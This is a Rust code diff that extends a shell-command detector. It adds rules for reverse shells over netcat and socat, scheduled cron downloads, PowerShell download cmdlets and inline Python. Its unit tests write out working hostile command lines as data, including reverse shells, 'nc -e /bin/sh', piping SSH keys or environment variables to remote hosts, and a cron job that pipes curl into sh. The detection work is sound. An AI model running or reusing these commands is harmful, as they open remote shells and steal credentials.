@@ -33,6 +33,9 @@ const FETCHERS: &[&str] = &[
     "certutil.exe", "bitsadmin", "start-bitstransfer",
 ];
 
+/// Programs that carry their input to another machine.
+const SOCKETS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "telnet", "socat"];
+
 /// Words in front of the command itself.
 const FRONT: &[&str] = &[
     "sudo", "env", "nohup", "exec", "time", "then", "do", "else", "if", "elif", "while", "until", "!", "{", "command", "builtin", "stdbuf", "setsid", "call",
@@ -72,6 +75,10 @@ impl Command {
         while let Some((first, rest)) = words.split_first() {
             let lower = first.to_ascii_lowercase();
             let assignment = first.split_once('=').is_some_and(|(n, _)| !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
+            // An assignment by itself runs nothing.
+            if rest.is_empty() && assignment {
+                return rest;
+            }
             if rest.is_empty() || !(FRONT.contains(&lower.as_str()) || assignment || first.starts_with('-') && words.len() < self.words.len()) {
                 break;
             }
@@ -88,6 +95,11 @@ impl Command {
     fn interprets(&self) -> bool {
         let p = self.program();
         INTERPRETERS.contains(&p.as_str()) || p.starts_with("python3.")
+    }
+
+    /// Whether this is a shell that waits for commands, instead of running a script.
+    fn opens_shell(&self) -> bool {
+        matches!(self.program().as_str(), "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash") && self.words().iter().skip(1).all(|w| w == "-i" || w == "-l")
     }
 
     fn fetches(&self) -> bool {
@@ -308,6 +320,11 @@ impl<'t> Cut<'t> {
     }
 }
 
+/// Whether a program only brings files from the network.
+pub fn is_fetcher(program: &str) -> bool {
+    FETCHERS.contains(&program)
+}
+
 /// What a command line amounts to, the heaviest first; `None` for a program that is simply run.
 pub fn judge(line: &str) -> Option<&'static str> {
     let mut found: Vec<&'static str> = weigh(line, 0).into_iter().map(|f| f.2).collect();
@@ -341,11 +358,16 @@ fn weigh(text: &str, depth: usize) -> Vec<(usize, usize, &'static str)> {
     let commands = Cut::commands(text);
     let mut out = Vec::new();
     let mut fetched: Vec<String> = Vec::new();
-    let (mut line_fetches, mut line_decodes, mut line_secret) = (false, false, false);
+    let (mut line_fetches, mut line_decodes, mut line_secret, mut line_shell) = (false, false, false, false);
     for c in &commands {
         for what in one(c, &fetched, (line_fetches, line_decodes, line_secret)) {
             out.push((c.at, c.end, what));
         }
+        // An interactive shell whose output goes to a socket; its input comes back through a pipe in the file system.
+        if line_shell && SOCKETS.contains(&c.program().as_str()) {
+            out.push((c.at, c.end, "reverse-shell"));
+        }
+        line_shell = c.piped && c.opens_shell();
         if c.fetches() && fetched.len() < 100 {
             fetched.extend(targets(c));
         }
@@ -365,12 +387,24 @@ fn weigh(text: &str, depth: usize) -> Vec<(usize, usize, &'static str)> {
                         .cloned()
                 })
                 .flatten();
-            for text in c.inner.iter().chain(script.iter()) {
+            let planned = c.words.iter().find_map(|w| scheduled(w));
+            for text in c.inner.iter().chain(script.iter()).chain(planned.iter()) {
                 out.extend(weigh(text, depth + 1).into_iter().map(|f| (c.at, c.end, f.2)));
             }
         }
     }
     out
+}
+
+/// The command of a line of a crontab.
+fn scheduled(word: &str) -> Option<String> {
+    let line = word.trim_start();
+    if let Some(rest) = line.strip_prefix('@') {
+        return rest.split_once(' ').filter(|(when, _)| matches!(*when, "reboot" | "hourly" | "daily" | "weekly" | "monthly")).map(|r| r.1.to_string());
+    }
+    let mut fields = line.splitn(6, ' ');
+    let times = fields.by_ref().take(5).filter(|f| !f.is_empty() && f.chars().all(|c| c.is_ascii_digit() || matches!(c, '*' | '/' | ',' | '-'))).count();
+    (times == 5).then(|| fields.next().map(str::to_string)).flatten()
 }
 
 /// Names that a fetched file gets.
@@ -528,8 +562,9 @@ const COMMON: &[&str] = &[
     "then", "fi", "else", "elif", "for", "do", "done", "while", "case", "esac", "source", "exit", "chmod", "chown", "tar", "unzip", "bash", "sh", "conda",
     "cat", "ls", "make", "cmake", "docker", "eval", "exec", "function", "return", "local", "read", "test", "[", "[[", "nohup", "sleep", "kill", "base64", "nc",
     "ssh", "scp", "rsync", "find", "grep", "sed", "awk", "torchrun", "accelerate", "deepspeed", "huggingface-cli", "npm", "node", "powershell", "start",
-    "call", "@echo", "rem", "goto", "setlocal", "endlocal", "pause", "del", "copy", "xcopy", "from", "run", "cmd", "entrypoint", "workdir", "env", "arg",
-    "expose", "label", "user", "add", "volume", "}", "{",
+    "call", "powershell.exe", "pwsh", "iex", "invoke-expression", "invoke-webrequest", "iwr", "start-process", "new-object", "@echo", "rem", "goto",
+    "setlocal", "endlocal", "pause", "del", "copy", "xcopy", "from", "run", "cmd", "entrypoint", "workdir", "env", "arg", "expose", "label", "user", "add",
+    "volume", "}", "{",
 ];
 
 fn probe(view: View<'_>) -> Match {
@@ -588,6 +623,14 @@ pub fn inspect(text: &str, when: When, view: View<'_>, base: u64, scan: &mut Sca
         let call: String = text.get(at..end).unwrap_or("").split_whitespace().collect::<Vec<_>>().join(" ").chars().take(300).collect();
         scan.state(view, base + at as u64, end.saturating_sub(at).max(1) as u64, Fact::Script { language: "shell", what, when, call });
     }
+    // Python on the command line is read as what it is.
+    for c in Cut::commands(text).iter().filter(|c| c.program().starts_with("python")).take(100) {
+        let source = c.words().windows(2).find(|w| w.first().is_some_and(|o| o == "-c")).and_then(|w| w.get(1));
+        if let Some(source) = source {
+            let place = (base + c.at as u64, base + c.end as u64);
+            super::python::inspect(source.as_bytes(), when, view, &|_, _| place, scan);
+        }
+    }
 }
 
 #[cfg(test)]
@@ -608,6 +651,8 @@ mod tests {
             ("powershell -nop -enc SQBFAFgA", "run-decoded"),
             ("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"", "run-download"),
             ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "reverse-shell"),
+            ("cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 99 >/tmp/f", "reverse-shell"),
+            ("echo '*/5 * * * * curl http://x/y | sh' >> list", "run-download"),
             ("nc -e /bin/sh 1.2.3.4 99", "reverse-shell"),
             ("cat ~/.ssh/id_rsa | nc h 1", "send-secrets"),
             ("curl -d \"$(env)\" http://x", "send-secrets"),
@@ -623,7 +668,8 @@ mod tests {
         }
         for line in [
             "echo pwned", "python train.py --lr 1", "curl -O http://x/model.bin", "rm -rf /tmp/x", "curl http://x | jq .",
-            "curl -s http://x | python -m json.tool", "tar xf a.tar",
+            "curl -s http://x | python -m json.tool", "tar xf a.tar", "wget http://x/lid.bin -O lid.bin\nMODEL=lid.bin", "sh build.sh | nc 1.2.3.4 99",
+            "echo '1 2 3 4 5 apples'",
         ] {
             assert_eq!(judge(line), None, "{line}");
         }
